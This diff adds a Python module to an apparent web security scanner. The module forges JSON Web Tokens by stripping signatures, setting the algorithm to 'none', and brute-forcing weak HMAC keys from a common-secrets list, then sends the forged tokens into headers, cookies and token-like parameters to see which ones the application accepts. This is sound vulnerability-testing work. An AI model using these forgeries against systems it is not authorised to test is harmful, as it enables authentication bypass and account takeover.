@@ -1,0 +1,248 @@
+"""Forges JSON Web Tokens and sees who takes them: CWE-347, CWE-326.
+
+Three forgeries: a signature that is none, the algorithm ``none``, and a signature with a key
+that can be guessed. The last needs no guessing over the wire: the key of a token that the
+application gave out is tried here, and only the one that fits is sent.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+import re
+import time
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass, replace
+from typing import Any
+
+from buckler.scan.engines.attack.drafts import CannotCarry, Draft
+from buckler.scan.engines.attack.explore import Explorer, entered, order_of
+from buckler.scan.engines.attack.run import Run
+from buckler.scan.engines.interface import Exchange, Identity, Slot
+from buckler.scan.engines.observations import Forgery
+from buckler.scan.model.application import Operation
+from buckler.scan.model.secrets import COMMON
+
+_JWT = re.compile(r"eyJ[\w-]{4,}\.[\w-]{4,}\.[\w-]*")
+_TELLING = re.compile(
+    r"token|jwt|share|ticket|voucher|invit|link|key|auth|assertion|session|state|magic|grant|bearer|credential|code|signed",
+    re.IGNORECASE,
+)
+_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
+_NONES = ("none", "None", "NONE")
+MAX_GUESSES = 100
+
+
+@dataclass(frozen=True, slots=True)
+class Token:
+    """A token that the application gave out, or one that is made up.
+
+    Attributes:
+        key: The key that it is signed with, where it was guessed.
+
+    """
+
+    header: Mapping[str, Any]
+    claims: Mapping[str, Any]
+    key: str | None = None
+
+
+def forge(run: Run, explorer: Explorer) -> list[Forgery]:
+    """Send forged tokens wherever tokens are read.
+
+    Args:
+        run: The run; its identities may have tokens.
+        explorer: Knows how operations are reached.
+
+    """
+    return [*Forger(run, explorer).forgeries()]
+
+
+class Forger:
+    """Forges tokens for one run."""
+
+    def __init__(self, run: Run, explorer: Explorer) -> None:
+        self._run = run
+        self._explorer = explorer
+        self._gates: set[tuple[str, ...]] = set()
+
+    def forgeries(self) -> Iterator[Forgery]:
+        """What was taken, one for each place that reads tokens."""
+        seen: set[tuple[object, ...]] = set()
+        for operation in sorted(self._run.operations, key=order_of):
+            draft = self._explorer.drafts.get(operation.key)
+            if draft is None or operation.is_websocket or self._run.states[operation.key].lost:
+                continue
+            for found in (*self._credentials(operation, draft), *self._slots(operation, draft)):
+                key = (found.kind, found.stack[0][:2] if found.stack else (found.operation, found.slot))
+                if key not in seen:
+                    seen.add(key)
+                    yield found
+
+    def _credentials(self, operation: Operation, draft: Draft) -> Iterator[Forgery]:
+        """Forge the token with which an identity signs in, once for each gate."""
+        gate = tuple(sorted(d.name for d in operation.dependencies))
+        cells = self._run.seen.matrix.get(operation.key, {})
+        nobody = cells.get(None)
+        if not gate or gate in self._gates or (nobody is not None and nobody.reached):
+            return
+        if operation.key in self._run.seen.forged:
+            return
+        for identity in self._run.identities.values():
+            cell = cells.get(identity.name)
+            if cell is None or not cell.reached:
+                continue
+            for name, value in identity.headers:
+                found = _JWT.search(value)
+                token = parse(found.group()) if found else None
+                if found is None or token is None:
+                    continue
+                self._gates.add(gate)
+                before, after = value[: found.start()], value[found.end() :]
+                slot = f"header:{name}"
+                if name == "cookie":
+                    slot = "cookie:" + before.rstrip("=").rpartition("; ")[2].rpartition("=")[2]
+                yield from self._variants(
+                    operation,
+                    slot,
+                    crack(found.group(), token),
+                    lambda text, n=name, b=before, a=after, i=identity: (  # type: ignore[misc]
+                        draft,
+                        replace(i, headers=tuple((k, b + text + a if k == n else v) for k, v in i.headers)),
+                    ),
+                )
+                return
+        if any(s.type.lower() in ("http", "oauth2", "openidconnect") and "basic" not in s.cls.lower() for s in operation.security):
+            self._gates.add(gate)
+            slot_of = Slot("header", "authorization")
+            yield from self._variants(
+                operation,
+                slot_of.key,
+                made_up(),
+                lambda text: (draft.with_value(slot_of, f"Bearer {text}"), None),
+            )
+
+    def _slots(self, operation: Operation, draft: Draft) -> Iterator[Forgery]:
+        """Send a token into every slot that sounds as if it took one."""
+        identity = self._run.identity(self._explorer.best_identity(operation))
+        for slot in self._explorer.slots(operation):
+            if slot.where in ("file", "filename", "path", "message") or not _TELLING.search(slot.name):
+                continue
+            yield from self._variants(
+                operation,
+                slot.key,
+                made_up(),
+                lambda text, s=slot: (draft.with_value(s, text), identity),  # type: ignore[misc]
+                guess=True,
+            )
+
+    def _variants(
+        self, operation: Operation, slot: str, token: Token, fill: Any, *, guess: bool = False
+    ) -> Iterator[Forgery]:
+        """The forgeries of one token, until one is taken."""
+        sent = self._send(operation, slot, token, "signature", "HS256", "", fill)
+        if sent is None:
+            return
+        exchange, taken = sent
+        if taken is not None:
+            yield taken
+            return
+        if guess and not any(hit.sink == "token" for hit in exchange.answer.hits):
+            return
+        for name in _NONES:
+            sent = self._send(operation, slot, token, "none", name, None, fill)
+            if sent is not None and sent[1] is not None:
+                yield sent[1]
+                return
+        keys = [token.key] if token.key is not None else list(COMMON[:MAX_GUESSES]) if guess else []
+        for key in keys:
+            algorithm = str(token.header.get("alg", "HS256"))
+            sent = self._send(operation, slot, token, "key", algorithm, key, fill)
+            if sent is not None and sent[1] is not None:
+                yield sent[1]
+                return
+
+    def _send(
+        self, operation: Operation, slot: str, token: Token, kind: str, algorithm: str, key: str | None, fill: Any
+    ) -> tuple[Exchange, Forgery | None] | None:
+        run = self._run
+        canary = run.canaries.new().text
+        claims = {**token.claims, "buckler": canary}
+        header = {**token.header, "alg": algorithm if kind != "signature" else token.header.get("alg", algorithm)}
+        text = encode(header, claims, key if kind == "key" else None)
+        if kind == "signature":
+            text += base64.urlsafe_b64encode(hashlib.sha256(canary.encode()).digest()).decode().rstrip("=")
+        try:
+            draft, identity = fill(text)
+            request = draft.request(identity, run.client())
+        except CannotCarry:
+            return None
+        answer = run.send(request, operation)
+        if answer is None:
+            return None
+        exchange = Exchange(operation, request, answer, entered(operation, answer))
+        read = [h for h in answer.hits if h.sink == "token" and canary in h.text]
+        accepted = [h for h in read if h.more.get("accepted")]
+        refused = "token-refused" in answer.effects or answer.status in (401, 403)
+        if read:
+            taken = bool(accepted) and "token-refused" not in answer.effects
+        else:
+            taken = slot.startswith(("header:authorization", "cookie:")) and identity is not None and exchange.reached
+            taken = taken and answer.ok
+        if not taken:
+            return exchange, None
+        how = {
+            "signature": "the signature was replaced",
+            "none": f"the algorithm was set to {algorithm!r} and the signature left out",
+            "key": f"it was signed with the guessed key {key!r}",
+        }[kind]
+        stack = accepted[0].frames if accepted else ()
+        return exchange, Forgery(kind, operation.key, slot, exchange, stack, not refused, how)
+
+
+def parse(text: str) -> Token | None:
+    """Header and claims of a token, or None where it is none."""
+    try:
+        header, claims = (json.loads(_unpadded(part)) for part in text.split(".")[:2])
+    except ValueError:
+        return None
+    return Token(header, claims) if isinstance(header, dict) and isinstance(claims, dict) else None
+
+
+def crack(text: str, token: Token) -> Token:
+    """The token with its key, where that is one of the common ones."""
+    digest = _HASHES.get(str(token.header.get("alg")))
+    signed, _, signature = text.rpartition(".")
+    if digest is None:
+        return token
+    for key in ("", *COMMON):
+        made = hmac.new(key.encode(), signed.encode(), digest).digest()
+        if hmac.compare_digest(made, _unpadded(signature)):
+            return replace(token, key=key)
+    return token
+
+
+def made_up() -> Token:
+    """A token of nobody, valid for an hour."""
+    now = int(time.time())
+    claims = {"sub": "1", "iat": now - 60, "nbf": now - 60, "exp": now + 3600, "jti": "buckler"}
+    return Token({"alg": "HS256", "typ": "JWT"}, claims)
+
+
+def encode(header: Mapping[str, Any], claims: Mapping[str, Any], key: str | None) -> str:
+    """A token; without a key its signature is empty."""
+    parts = [json.dumps(part, separators=(",", ":")).encode() for part in (header, claims)]
+    signed = ".".join(base64.urlsafe_b64encode(part).decode().rstrip("=") for part in parts)
+    if key is None:
+        return signed + "."
+    made = hmac.new(key.encode(), signed.encode(), _HASHES.get(str(header.get("alg")), hashlib.sha256))
+    return f"{signed}.{base64.urlsafe_b64encode(made.digest()).decode().rstrip('=')}"
+
+
+def _unpadded(text: str) -> bytes:
+    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+
+
+__all__ = ["Forger", "Identity", "Token", "crack", "encode", "forge", "made_up", "parse"]
